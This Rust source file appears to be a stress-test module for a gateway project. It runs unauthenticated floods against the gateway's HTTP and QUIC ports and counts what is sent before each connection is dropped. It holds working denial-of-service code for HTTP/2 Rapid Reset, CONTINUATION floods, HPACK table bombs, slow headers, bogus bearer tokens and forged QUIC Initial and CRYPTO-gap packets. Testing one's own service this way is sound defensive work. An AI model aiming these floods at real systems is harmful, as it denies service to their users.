//! What an attacker sends without a credential, as fast as it goes: each flood runs until it is dropped, and counts.

use std::net::{Ipv4Addr, SocketAddr};
use std::sync::Arc;
use std::sync::atomic::{AtomicU64, Ordering};
use std::time::Duration;

use anyhow::Context;
use rustls::crypto::ring;
use rustls::quic::{DirectionalKeys, Version};
use rustls::{Side, Tls13CipherSuite};
use tokio::io::{AsyncReadExt, AsyncWriteExt};
use tokio::net::UdpSocket;
use tokio::task::JoinSet;

use crate::client::Client;

const CONNECTIONS: usize = 8;
/// Of all connections together: more only shows how many there are processors for.
const BAD_TOKENS_PER_SECOND: u32 = 5_000;
/// Sent without a pause, on one connection.
const BURST: u32 = 2;
/// Of slow heads, each on a connection of its own.
const SLOW: usize = 300;
const QUIC_DATAGRAM: usize = 1200;
/// One byte of a handshake: type, offset in two bytes, length, byte.
const CRYPTO_FRAME: usize = 5;
const GAPS_PER_PACKET: u32 = 230;
/// Up to the last offset that two bytes can name.
const GAPS_PACKETS: u32 = 35;
const PREFACE: &[u8] = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n\0\0\0\x04\0\0\0\0\0";

#[derive(Clone, Copy, Debug, PartialEq, Eq)]
pub enum Kind {
    BadTokens,
    Continuation,
    HpackBomb,
    QuicGaps,
    QuicInitials,
    RapidReset,
    SlowHeads,
}

pub const KINDS: [Kind; 7] = [
    Kind::BadTokens,
    Kind::Continuation,
    Kind::HpackBomb,
    Kind::QuicGaps,
    Kind::QuicInitials,
    Kind::RapidReset,
    Kind::SlowHeads,
];

/// Where it goes: a gateway's port of clients, over HTTP/1.1 and HTTP/2, and its port of tunnels.
#[derive(Clone)]
pub struct Aim {
    pub http1: Client,
    pub http2: Client,
    pub tunnel: SocketAddr,
}

/// A flood that goes on; ends when dropped.
pub struct Flood {
    _running: JoinSet<()>,
    sent: Arc<AtomicU64>,
}

impl Flood {
    pub fn start(kind: Kind, aim: &Aim) -> Self {
        let sent = Arc::new(AtomicU64::new(0));
        let mut running = JoinSet::new();
        let connections = match kind {
            Kind::SlowHeads => SLOW,
            Kind::QuicGaps | Kind::QuicInitials => 1,
            _ => CONNECTIONS,
        };
        for number in 0..connections {
            let (aim, sent) = (aim.clone(), sent.clone());
            running.spawn(async move {
                loop {
                    // Whatever the other side does about it, the next connection goes on.
                    _ = once(kind, &aim, number, &sent).await;
                    tokio::time::sleep(Duration::from_millis(5)).await;
                }
            });
        }
        Self { _running: running, sent }
    }

    /// Requests, frames, bytes or datagrams so far.
    pub fn sent(&self) -> u64 {
        self.sent.load(Ordering::Relaxed)
    }
}

async fn once(kind: Kind, aim: &Aim, number: usize, sent: &AtomicU64) -> anyhow::Result<()> {
    match kind {
        Kind::BadTokens => bad_tokens(&aim.http1, number, sent).await,
        Kind::Continuation => continuation(&aim.http2, sent).await,
        Kind::HpackBomb => hpack_bomb(&aim.http2, sent).await,
        Kind::QuicGaps => gaps(aim.tunnel, sent).await,
        Kind::QuicInitials => initials(aim.tunnel, sent).await,
        Kind::RapidReset => rapid_reset(&aim.http2, sent).await,
        Kind::SlowHeads => slow_head(&aim.http1, sent).await,
    }
}

/// A new token with each request, well-formed and unknown.
async fn bad_tokens(client: &Client, number: usize, sent: &AtomicU64) -> anyhow::Result<()> {
    let mut stream = client.connect().await?;
    let mut answer = vec![0; 8 << 10];
    let mut pace =
        tokio::time::interval(Duration::from_secs(1) / BAD_TOKENS_PER_SECOND * (BURST * CONNECTIONS as u32));
    for count in 0_u32.. {
        if count % BURST == 0 {
            pace.tick().await;
        }
        let token = drover_api::token::generate();
        let request = format!(
            "GET /k8s/clusters/one/api?{number} HTTP/1.1\r\nHost: localhost\r\nAuthorization: Bearer {}\r\n\r\n",
            token.secret.expose()
        );
        stream.write_all(request.as_bytes()).await?;
        if stream.read(&mut answer).await? == 0 {
            return Ok(());
        }
        sent.fetch_add(1, Ordering::Relaxed);
    }
    Ok(())
}

/// A header block that never ends.
async fn continuation(client: &Client, sent: &AtomicU64) -> anyhow::Result<()> {
    let mut stream = client.connect().await?;
    stream.write_all(PREFACE).await?;
    stream.write_all(&frame(0x1, 0, 1, &[0x82])).await?;
    // A literal field without a name in the table: `x: y`, again and again.
    let part = frame(0x9, 0, 1, &b"\0\x01x\x01y".repeat(100));
    loop {
        stream.write_all(&part).await?;
        sent.fetch_add(1, Ordering::Relaxed);
    }
}

/// One large field in the table, and a block that names it thousands of times.
async fn hpack_bomb(client: &Client, sent: &AtomicU64) -> anyhow::Result<()> {
    let mut stream = client.connect().await?;
    stream.write_all(PREFACE).await?;
    let mut block = vec![0x82, 0x87, 0x84, 0x41, 9];
    block.extend_from_slice(b"localhost");
    // Literal with indexing: name of one byte, a value of 3,900, which the table of 4,096 holds.
    block.extend_from_slice(&[0x40, 1, b'x', 0x7f]);
    let mut length = 3_900 - 127;
    while length >= 128 {
        block.push((length % 128 + 128) as u8);
        length /= 128;
    }
    block.push(length as u8);
    block.extend(std::iter::repeat_n(b'a', 3_900));
    block.extend(std::iter::repeat_n(0xbe_u8, 10_000));
    for stream_id in (1..).step_by(2) {
        stream.write_all(&frame(0x1, 0x5, stream_id, &block)).await?;
        sent.fetch_add(1, Ordering::Relaxed);
    }
    Ok(())
}

async fn rapid_reset(client: &Client, sent: &AtomicU64) -> anyhow::Result<()> {
    let mut stream = client.connect().await?;
    stream.write_all(PREFACE).await?;
    // GET https://localhost/ without indexing.
    let block = [&[0x82, 0x87, 0x84, 0x01, 9][..], b"localhost"].concat();
    for stream_id in (1..0x7fff_fff0).step_by(2) {
        let pair = [frame(0x1, 0x5, stream_id, &block), frame(0x3, 0, stream_id, &[0, 0, 0, 8])].concat();
        stream.write_all(&pair).await?;
        sent.fetch_add(1, Ordering::Relaxed);
    }
    Ok(())
}

/// A head of which a byte comes every second.
async fn slow_head(client: &Client, sent: &AtomicU64) -> anyhow::Result<()> {
    let mut stream = client.connect().await?;
    for byte in
        b"GET /k8s/clusters/one/api HTTP/1.1\r\nHost: localhost\r\nX-Slow: ".iter().chain([&b'a'; 1000])
    {
        stream.write_all(&[*byte]).await?;
        stream.flush().await?;
        sent.fetch_add(1, Ordering::Relaxed);
        tokio::time::sleep(Duration::from_secs(1)).await;
    }
    Ok(())
}

/// QUIC's first packets, each of another peer's that there is not.
async fn initials(to: SocketAddr, sent: &AtomicU64) -> anyhow::Result<()> {
    let socket = UdpSocket::bind((Ipv4Addr::LOCALHOST, 0)).await?;
    loop {
        for _ in 0..120 {
            let mut packet: [u8; 1200] = std::array::from_fn(|_| rand::random());
            // Long header, version 1, an id of 8 bytes, none of ours, no token, the rest as payload.
            packet[..6].copy_from_slice(&[0xc3, 0, 0, 0, 1, 8]);
            packet[14..18].copy_from_slice(&[0, 0, 0x44, 0x9e]);
            _ = socket.send_to(&packet, to).await;
            sent.fetch_add(1, Ordering::Relaxed);
        }
        tokio::time::sleep(Duration::from_millis(10)).await;
    }
}

/// Handshakes of which every other byte never comes, so that all that comes has to be kept in pieces.
async fn gaps(to: SocketAddr, sent: &AtomicU64) -> anyhow::Result<()> {
    let suite = ring::cipher_suite::TLS13_AES_128_GCM_SHA256.tls13().and_then(Tls13CipherSuite::quic_suite);
    let suite = suite.context("no cipher suite of QUIC's first packets")?;
    let socket = UdpSocket::bind((Ipv4Addr::LOCALHOST, 0)).await?;
    loop {
        let connection: [u8; 8] = rand::random();
        let keys = suite.keys(&connection, Side::Client, Version::V1);
        for number in 0..GAPS_PACKETS {
            _ = socket.send_to(&gaps_packet(&keys.local, connection, number)?, to).await;
            sent.fetch_add(1, Ordering::Relaxed);
        }
        tokio::time::sleep(Duration::from_millis(10)).await;
    }
}

/// The packet of a number, protected (RFC 9001, 5) with keys that anybody can derive from the connection's id.
fn gaps_packet(keys: &DirectionalKeys, connection: [u8; 8], number: u32) -> anyhow::Result<Vec<u8>> {
    // Long header, version 1, two ids of 8 bytes, no token, a length, the number in 4 bytes.
    let mut header = [&[0xc3, 0, 0, 0, 1, 8][..], &connection, &[8], &[7; 8], &[0]].concat();
    let number_at = header.len() + 2;
    let length = QUIC_DATAGRAM - number_at;
    header.extend_from_slice(&(0x4000 | length as u16).to_be_bytes());
    header.extend_from_slice(&number.to_be_bytes());
    let mut payload = Vec::new();
    while payload.len() + CRYPTO_FRAME <= QUIC_DATAGRAM - header.len() - keys.packet.tag_len() {
        let offset = 2 * (number * GAPS_PER_PACKET + (payload.len() / CRYPTO_FRAME) as u32) + 1;
        payload.push(0x06);
        payload.extend_from_slice(&(0x4000 | offset as u16).to_be_bytes());
        payload.extend_from_slice(&[1, 0]);
    }
    payload.resize(QUIC_DATAGRAM - header.len() - keys.packet.tag_len(), 0);
    let tag = keys.packet.encrypt_in_place(number.into(), &header, &mut payload)?;
    let mut packet = [&header, &payload, tag.as_ref()].concat();
    let (head, rest) = packet.split_at_mut(number_at);
    let (number, rest) = rest.split_at_mut(4);
    keys.header.encrypt_in_place(&rest[..keys.header.sample_len()], &mut head[0], number)?;
    Ok(packet)
}

fn frame(kind: u8, flags: u8, stream_id: u32, payload: &[u8]) -> Vec<u8> {
    let mut frame = (payload.len() as u32).to_be_bytes()[1..].to_vec();
    frame.extend_from_slice(&[kind, flags]);
    frame.extend_from_slice(&stream_id.to_be_bytes());
    frame.extend_from_slice(payload);
    frame
}
